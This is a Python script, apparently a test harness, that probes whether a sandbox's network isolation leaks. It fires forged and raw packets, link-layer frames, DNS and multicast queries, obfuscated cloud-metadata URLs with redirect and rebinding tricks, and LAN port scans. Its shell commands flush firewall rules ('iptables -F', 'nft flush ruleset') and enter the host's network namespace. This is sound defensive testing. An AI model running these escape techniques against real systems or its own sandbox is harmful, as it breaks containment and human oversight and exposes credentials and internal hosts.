"""What somebody in a sandbox may try to get packets out beside its way out. Standard library only.

`attacks.py '{"mode": "all" | "flood", ...}'`: `all` tries every way once and prints {"sent": {way: n}, "reached": [...]};
`flood` sends by the quick ways for `seconds` (and says `flooding` when it has begun). `sent` counts what the kernel
took, which proves nothing; `reached` names whatever answered though it must not. The frames are judged outside.
"""
import ctypes, fcntl, http.client, json, os, socket, ssl, struct, subprocess, sys, threading, time, urllib.request
from concurrent.futures import ThreadPoolExecutor

want = json.loads(sys.argv[1])
web, forbidden = want['web'], want['forbidden']
CANARY = b'canary-' + want.get('nonce', 'x').encode()
PUBLIC = [web, '8.8.8.8', '9.9.9.9']
PRIVATE = forbidden + ['10.0.0.1', '172.17.0.1', '192.168.1.1', '100.64.0.1', '100.100.100.200', '168.63.129.16']
GROUPS = ['224.0.0.1', '224.0.0.251', '239.255.255.250', '255.255.255.255', '198.51.100.255', '192.168.77.255']
EVERYWHERE = PUBLIC + PRIVATE + GROUPS
SIX = ['2001:db8:1::1', '2001:4860:4860::8888', 'fd00:ec2::254', 'fe80::1%tun0', 'fe80::10%lo', 'ff02::1%tun0',
       '64:ff9b::808:808', '::ffff:169.254.169.254', '::ffff:a9fe:a9fe', '::ffff:198.51.100.10', '2002:c633:640a::1']
sent, reached, lock = {}, [], threading.Lock()


def took(way):
    with lock:
        sent[way] = sent.get(way, 0) + 1


def leak(what):
    with lock:
        reached.append(what)


# Between two tries of a flood. Without it the flows of a minute take half of the host's ports, and most of a processor
# goes into looking for a free one; with it each way is still tried many times a second.
PAUSE_S = 0.001


def attempt(way, work):
    try:
        work()
        took(way)
    except (OSError, ValueError, ssl.SSLError, http.client.HTTPException, subprocess.SubprocessError):
        sent.setdefault(way, 0)


def checksum(data):
    total = sum(struct.unpack(f'!{len(data) // 2}H', data))
    total = (total >> 16) + (total & 0xffff)
    return ~(total + (total >> 16)) & 0xffff


def ipv4(target, protocol, payload, source='198.18.0.1'):
    head = struct.pack('!BBHHHBBH4s4s', 0x45, 0, 20 + len(payload), 7, 0, 64, protocol, 0,
                       socket.inet_aton(source), socket.inet_aton(target))
    return head[:10] + struct.pack('!H', checksum(head)) + head[12:] + payload


def echo_request():
    body = struct.pack('!BBHHH', 8, 0, 0, 1, 1) + CANARY + b'\0' * (len(CANARY) % 2)
    return body[:2] + struct.pack('!H', checksum(body)) + body[4:]


UDP_PACKET = struct.pack('!HHHH', 4444, 9999, 8 + len(CANARY), 0) + CANARY
SYN = struct.pack('!HHIIBBHHH', 4445, 9999, 1, 0, 0x50, 2, 1024, 0, 0)


def udp(target, port, payload=CANARY, family=socket.AF_INET):
    with socket.socket(family, socket.SOCK_DGRAM) as it:
        it.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        it.sendto(payload, (target, port))


def raw(target, protocol, payload):
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, protocol) as it:
        it.sendto(payload, (target, 0))


def header_included(target, protocol, payload, source):
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as it:
        it.sendto(ipv4(target, protocol, payload, source), (target, 0))


def frame(link, target, bypass):
    """AF_PACKET passes by an output hook; PACKET_QDISC_BYPASS (20) by the queue and by local taps as well."""
    with socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(0x0800)) as it:
        if bypass:
            it.setsockopt(263, 20, 1)
        for protocol, payload in ((17, UDP_PACKET), (6, SYN), (1, echo_request()), (47, CANARY), (132, CANARY)):
            it.sendto(ipv4(target, protocol, payload), (link, 0x0800, 0, 0, b'\xff' * 6))


def frame_six(link):
    with socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(0x86dd)) as it:
        body = struct.pack('!IHBB', 0x60000000, len(UDP_PACKET), 17, 64) + b'\xfe\x80' + b'\0' * 13 + b'\x10'
        it.sendto(body + b'\xff\x02' + b'\0' * 13 + b'\x01' + UDP_PACKET, (link, 0x86dd, 0, 0, b'\xff' * 6))


def stream(target, port, family=socket.AF_INET, kind=socket.SOCK_STREAM, protocol=0, wait=0.5):
    with socket.socket(family, kind, protocol) as it:
        it.settimeout(wait)
        it.connect((target, port))


def protocols():
    for target in EVERYWHERE:
        yield 'tcp', lambda t=target: stream(t, 9999)
        for port in (9999, 123, 443, 546, 1900, 3478, 5060):
            yield 'udp', lambda t=target, p=port: udp(t, p)
        yield 'sctp', lambda t=target: stream(t, 9999, kind=socket.SOCK_STREAM, protocol=132)
        yield 'sctp', lambda t=target: raw(t, 132, CANARY)
        yield 'dccp', lambda t=target: stream(t, 9999, kind=6, protocol=33)
        yield 'udplite', lambda t=target: stream(t, 9999, kind=socket.SOCK_DGRAM, protocol=136)
        yield 'ping', lambda t=target: ping(t)
        for name, protocol, payload in (('icmp', 1, echo_request()), ('igmp', 2, b'\x16\0\x09\x04\xe0\0\0\xfb'),
                                        ('ipip', 4, ipv4(web, 17, UDP_PACKET)), ('gre', 47, b'\0\0\x08\0' + CANARY),
                                        ('esp', 50, CANARY), ('ospf', 89, CANARY), ('raw-udp', 17, UDP_PACKET),
                                        ('raw-tcp', 6, SYN), ('odd', 253, CANARY)):
            yield name, lambda t=target, p=protocol, b=payload: raw(t, p, b)
        for source in ('198.18.0.1', '127.0.0.1', '198.51.100.10', '169.254.169.254'):
            yield 'forged', lambda t=target, s=source: header_included(t, 17, UDP_PACKET, s)
    for group in ('224.0.0.251', '239.255.255.250'):
        yield 'igmp-join', lambda g=group: join(g)


def ping(target):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP) as it:
        it.sendto(echo_request(), (target, 0))


def join(group):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as it:
        it.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, socket.inet_aton(group) + socket.inet_aton('198.18.0.1'))
        it.sendto(CANARY, (group, 9999))


def links_and_namespaces():
    for link in ('tun0', 'lo', 'eth0'):
        for target in (web, '8.8.8.8', forbidden[0], '169.254.169.254'):
            for bypass in (False, True):
                yield 'packet', lambda k=link, t=target, b=bypass: frame(k, t, b)
        yield 'packet6', lambda k=link: frame_six(k)
    yield 'xdp', lambda: socket.socket(44, socket.SOCK_RAW, 0)
    yield 'vsock', lambda: stream(2, 22, family=socket.AF_VSOCK)
    yield 'tun', lambda: fcntl.ioctl(os.open('/dev/net/tun', os.O_RDWR), 0x400454ca, struct.pack('16sH', b'tun9', 1))
    yield 'mknod', lambda: os.mknod('/tmp/tun', 0o20666, os.makedev(10, 200))
    for command in want.get('commands') or COMMANDS:
        yield command, lambda c=command: subprocess.run(['sh', '-c', c], check=True, timeout=5, capture_output=True)
    yield 'setns', lambda: setns()


COMMANDS = [
    'ip route add 8.8.8.8 dev lo', 'ip rule add pref 1 lookup main', 'ip addr add 198.51.100.99/24 dev lo',
    'ip link add d0 type dummy', 'ip link add v0 type veth peer name v1', 'ip link add m0 link tun0 type macvlan',
    'ip link set tun0 mtu 1280', 'ip tuntap add mode tun name t9', 'nft flush ruleset', 'iptables -F',
    'sysctl -w net.ipv6.conf.all.disable_ipv6=0', 'echo 0 > /proc/sys/net/ipv6/conf/all/disable_ipv6',
    'nsenter -t 1 -n ip link', 'unshare -n ip link add d1 type dummy',
    # A namespace of one's own has root in it, but no link that leads anywhere.
    'unshare -Urn sh -c "ip link set lo up; ip link add d2 type dummy; ip addr add 198.51.100.98/24 dev d2; '
    'ip link set d2 up; ip route add default dev d2; ip link set tun0 netns 1; '
    'python3 -c \'import socket; socket.socket(2, 2).sendto(b\\"canary\\", (\\"8.8.8.8\\", 9999))\'"',
    'unshare -Ur nsenter -t 1 -n ip link add d3 type dummy',
]


def setns():
    if ctypes.CDLL(None, use_errno=True).setns(os.open('/proc/1/ns/net', os.O_RDONLY), 0) != 0:
        raise OSError(ctypes.get_errno(), 'setns')


def query(name, kind=1, padding=0):
    labels = b''.join(bytes([len(it)]) + it.encode() for it in name.split('.'))
    edns = b'\0\0\x29\x10\0\0\0\0\0' + struct.pack('!HHH', 4 + padding, 12, padding) + b'\0' * padding
    return struct.pack('!HHHHHH', 7, 0x0100, 1, 0, 0, 1) + labels + struct.pack('!BHH', 0, kind, 1) + edns


def ask(server, port, name, transport, kind=1):
    """An answer is a leak only where the name must not be answered from there; `over` tells."""
    message = query(name, kind, 64)
    if transport == 'udp':
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as it:
            it.settimeout(1)
            it.sendto(message, (server, port))
            return it.recv(4096)
    with socket.create_connection((server, port), 1) as plain:
        it = plain
        if transport == 'tls':
            context = ssl.create_default_context()
            context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
            it = context.wrap_socket(plain, server_hostname='dns.test')
        it.sendall(struct.pack('!H', len(message)) + message)
        return it.recv(4096)


def dot(server, name):
    if ask(server, 853, name, 'tls'):
        leak(f'DNS over TLS at {server}')


def names():
    unique = 0
    long_label = 'x' * 60
    for server in (want['publicResolver'], want['hostResolver'], *forbidden[:2], '198.18.0.2'):
        for kind in (1, 10, 16, 255):
            for transport in ('udp', 'tcp'):
                unique += 1
                name = f"{long_label}.a{unique}-{want['nonce']}.who.{want['zone']}"
                yield f'dns-{transport}', lambda s=server, n=name, t=transport, k=kind: ask(s, 53, n, t, k)
        yield 'dot', lambda s=server, n=f"dot-{want['nonce']}.{want['zone']}": dot(s, n)
        yield 'doq', lambda s=server: udp(s, 853)
        yield 'dns-5353', lambda s=server: udp(s, 5353, query('host.local'))
    for target, port in (('224.0.0.251', 5353), ('224.0.0.252', 5355), ('198.51.100.255', 137), ('255.255.255.255', 137),
                         ('192.168.77.255', 138), ('255.255.255.255', 67)):
        yield 'multicast-names', lambda t=target, p=port: udp(t, p, query('wpad'))
    for name in ('metadata.google.internal', 'wpad', 'host.docker.internal', f"sys-{want['nonce']}.who.{want['zone']}"):
        yield 'resolver', lambda n=name: socket.getaddrinfo(n, 80)


def six():
    for target in SIX:
        address, _, link = target.partition('%')
        scope = socket.if_nametoindex(link) if link in [it[1] for it in socket.if_nameindex()] else 0
        for port in (9999, 547, 5353):
            yield 'udp6', lambda a=address, s=scope, p=port: six_udp(a, p, s)
        yield 'tcp6', lambda a=address: stream(a, want['lanPort'], family=socket.AF_INET6)
        for protocol, payload in ((58, b'\x80\0\0\0\0\1\0\1' + CANARY), (58, b'\x85\0\0\0\0\0\0\0'),
                                  (58, b'\x86\0\0\0\x40\0\x07\x08' + b'\0' * 8)):
            yield 'icmp6', lambda a=address, p=protocol, b=payload, s=scope: six_raw(a, p, b, s)


def six_udp(address, port, scope):
    with socket.socket(socket.AF_INET6, socket.SOCK_DGRAM) as it:
        it.sendto(CANARY, (address, port, 0, scope))


def six_raw(address, protocol, payload, scope):
    with socket.socket(socket.AF_INET6, socket.SOCK_RAW, protocol) as it:
        it.sendto(payload, (address, 0, 0, scope))


def fetch(url, host=None):
    request = urllib.request.Request(url, headers={'Host': host} if host else {})
    with urllib.request.build_opener(urllib.request.ProxyHandler({})).open(request, timeout=1.5) as answer:
        text = answer.read(200).decode(errors='replace')
    if 'metadata' in text or 'the host' in text or 'the neighbour' in text:
        leak(f'{url}: {text.strip()}')


def metadata():
    spelled = ['169.254.169.254', '2852039166', '0xa9fea9fe', '0251.0376.0251.0376', '0xa9.0xfe.0xa9.0xfe', '169.254.43518',
               '0251.254.169.254', '[::ffff:169.254.169.254]', '[::ffff:a9fe:a9fe]', '[0:0:0:0:0:ffff:a9fe:a9fe]',
               '[64:ff9b::a9fe:a9fe]', '[fd00:ec2::254]', 'metadata.google.internal', f"metadata.{want['zone']}",
               f"rebind.{want['zone']}", f"evil.localhost.{want['zone']}", '169.254.169.254.', '169.254.170.2',
               '192.0.0.192', '100.100.100.200', '168.63.129.16']
    for host in spelled:
        yield 'metadata', lambda h=host: fetch(f'http://{h}/latest/meta-data/')
    for host in ('169.254.169.254', '2852039166', f"metadata.{want['zone']}"):
        yield 'metadata-redirect', lambda h=host: fetch(f"http://{web}/redirect?to=http://{h}/latest/meta-data/")
    for _ in range(4):
        yield 'metadata-rebind', lambda: fetch(f"http://rebind.{want['zone']}/")


def lan():
    tricks = ['127.0.0.1', '127.0.0.2', '127.1', '0.0.0.0', '0', 'localhost', f"private.{want['zone']}"]
    for host in forbidden + tricks + ['172.17.0.1', '[fe80::10%25tun0]', '[2001:db8:1::10]']:
        yield 'lan-http', lambda h=host: fetch(f"http://{h}:{want['lanPort']}/")
    for host in forbidden + ['172.17.0.1', '198.18.0.2']:
        for port in (22, 80, 2375, 2376, 6443, 10250, 9090, 9100, 30000):
            yield 'lan-tcp', lambda h=host, p=port: stream(h, p)
        yield 'lan-udp', lambda h=host: echoed(h)
    for port in listening():
        yield 'own-listener', lambda p=port: control(p)


def echoed(host):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as it:
        it.settimeout(0.5)
        it.sendto(CANARY, (host, want['udpPort']))
        leak(f"UDP echo of {host}: {it.recv(200).decode(errors='replace')}")


def listening():
    """(address, port) of every listener in this namespace, whoever has it: sing-box's own ones are among them."""
    with open('/proc/net/tcp') as table:
        rows = [line.split() for line in table.readlines()[1:]]
    own = [row[1].split(':') for row in rows if row[3] == '0A']
    return {(socket.inet_ntoa(bytes.fromhex(a)[::-1]), int(p, 16)) for a, p in own}


def control(at):
    """sing-box's API would let a sandbox read and change its own rules."""
    connection = http.client.HTTPConnection(at[0], at[1], timeout=0.5)
    for path in ('/configs', '/connections', '/proxies'):
        connection.request('GET', path)
        answer = connection.getresponse()
        text = answer.read()
        if answer.status == 200 and b'{' in text:
            leak(f'{at[0]}:{at[1]}{path} answers')


def quick():
    """What is worth repeating thousands of times: no waiting."""
    for target in (web, '8.8.8.8', *forbidden, '169.254.169.254', '224.0.0.251', '255.255.255.255', '10.0.0.1'):
        yield 'udp', lambda t=target: udp(t, 9999)
        yield 'ping', lambda t=target: ping(t)
        yield 'icmp', lambda t=target: raw(t, 1, echo_request())
        yield 'forged', lambda t=target: header_included(t, 17, UDP_PACKET, '198.51.100.10')
        yield 'dns', lambda t=target: udp(t, 53, query(f"f-{want['nonce']}.{want['zone']}"))
        yield 'syn', lambda t=target: no_wait(t, 9999)
        yield 'packet', lambda t=target: frame('tun0', t, True)
    yield 'udp6', lambda: six_udp('2001:db8:1::1', 9999, 0)


def no_wait(target, port):
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as it:
        it.setblocking(False)
        it.connect_ex((target, port))
        time.sleep(0.001)


if want['mode'] == 'flood':
    print('flooding', flush=True)
    end = time.time() + want['seconds']
    while time.time() < end:
        for way, work in quick():
            attempt(way, work)
            time.sleep(PAUSE_S)
else:
    with ThreadPoolExecutor(48) as pool:
        for family in (protocols, links_and_namespaces, names, six, metadata, lan):
            for way, work in family():
                pool.submit(attempt, way, work)
print(json.dumps({'sent': sent, 'reached': sorted(set(reached))}))
